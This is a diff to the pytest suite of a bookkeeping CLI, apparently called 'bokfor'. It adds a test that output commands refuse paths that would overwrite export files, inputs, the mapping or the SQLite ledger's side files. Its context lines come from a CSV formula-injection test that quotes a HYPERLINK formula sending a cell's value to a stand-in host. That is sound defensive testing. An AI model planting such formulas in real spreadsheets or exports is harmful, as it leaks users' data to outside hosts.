@@ -545,3 +545,71 @@ def test_a_text_that_begins_like_a_formula_is_text_in_the_csv(capsys, tmp_path):
     assert amounts and all(re.fullmatch(r"\d{1,3}(\xa0\d{3})*,\d\d", a) for a in amounts)
     assert not [cell for row in rows[1:] for cell in row if cell.startswith(("=", "+", "-", "@"))]
     assert "=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1)" in page.read_text(encoding="utf-8")
+
+
+def _tree(directory: Path) -> dict[Path, bytes | None]:
+    return {p: p.read_bytes() if p.is_file() else None for p in sorted(directory.rglob("*"))}
+
+
+@pytest.mark.parametrize(
+    "command, named, what",
+    [
+        ("plan", "o1.si", "export 1's file (29 verifikationer 2026-01-01 .. 2026-02-01)"),
+        ("plan", "m.ledger.sqlite-wal", "the export ledger's write-ahead log"),
+        ("plan", "batch/vouchers.si", "a file of export 1's batch"),
+        ("underlag", "o1.si", "export 1's file"),
+        ("underlag", "in.html", "a received file (run 1 read {tmp}/in.csv)"),
+        ("underlag", "m.ledger.sqlite-shm", "the export ledger's shared-memory index"),
+        ("underlag", "batch/manifest.json", "export 1's batch manifest"),
+        ("pdf", "o1.si", "export 1's file"),
+        ("pdf", "u.csv", "the underlag's CSV"),
+        ("archive", "o1.si", "export 1's file"),
+        ("archive", "in.csv", "a received file (run 1 read {tmp}/in.csv)"),
+        ("archive", "m.ledger.sqlite.lock", "the export ledger's lock file"),
+        ("explain", "m.yaml", "the mapping"),
+        ("explain", "o1.si", "export 1's file"),
+        ("explain", "m.ledger.sqlite-journal", "the export ledger's rollback journal"),
+    ],
+)
+def test_no_output_goes_over_an_export_s_file_an_input_or_the_ledger_s_files(
+    capsys, tmp_path, monkeypatch, command, named, what
+):
+    """plan --html, underlag (its page, the CSV beside it, --pdf), archive pack and mapping
+    explain --html refuse, before anything is written, a path that is the mapping, the
+    ledger or a file SQLite or its lock keeps beside it, a file an export of the ledger
+    wrote (a SIE file not imported yet, a batch's files) or a received file its runs read."""
+    from bokfor import underlag
+
+    monkeypatch.setattr(underlag.shutil, "which", lambda name: "/usr/bin/chromium")
+    monkeypatch.chdir(tmp_path)
+    shutil.copyfile(STRIPE, "in.csv")
+    shutil.copyfile(STRIPE_MAPPING, "m.yaml")
+    for args in (
+        ["convert", "in.csv", "-m", "m.yaml", "-o", "o1.si", "-q"],
+        ["convert", "in.csv", "-m", "m.yaml", "--ledger", "b.sqlite", "--format", "fortnox"]
+        + ["-o", "batch", "-q"],
+    ):
+        code, _, err = run_cli(args, capsys)
+        assert code == 0, err
+    ledger = "b.sqlite" if named.startswith("batch/") else "m.ledger.sqlite"
+    base = ["-m", "m.yaml", "--ledger", ledger]
+    args = {
+        "plan": ["plan", "in.csv", *base, "--html", named],
+        "underlag": ["underlag", *base, "-o", named],
+        "pdf": ["underlag", *base, "-o", "u.html", "--pdf", named],
+        "archive": ["archive", "pack", "2026", *base, "-o", named, "--inputs", "."],
+        "explain": ["mapping", "explain", "m.yaml", "--html", named],
+    }[command]
+    option = {"plan": "--html", "explain": "--html", "pdf": "--pdf"}.get(command, "--out")
+    before = _tree(tmp_path)
+    code, out, err = run_cli(args, capsys)
+    target = tmp_path / named
+    what = what.replace("{tmp}", str(tmp_path))
+    if named == "in.html":  # the CSV beside the page is the input
+        said = f"--out {named} writes its CSV beside it: {tmp_path / 'in.csv'} is {what}"
+    else:
+        said = f"{option} {target} is {what}"
+    assert code == 2, (out, err)
+    assert err.startswith(f"bokfor: error: {said}"), err
+    assert "writing there would destroy it" in err and len(err.splitlines()) == 1
+    assert _tree(tmp_path) == before
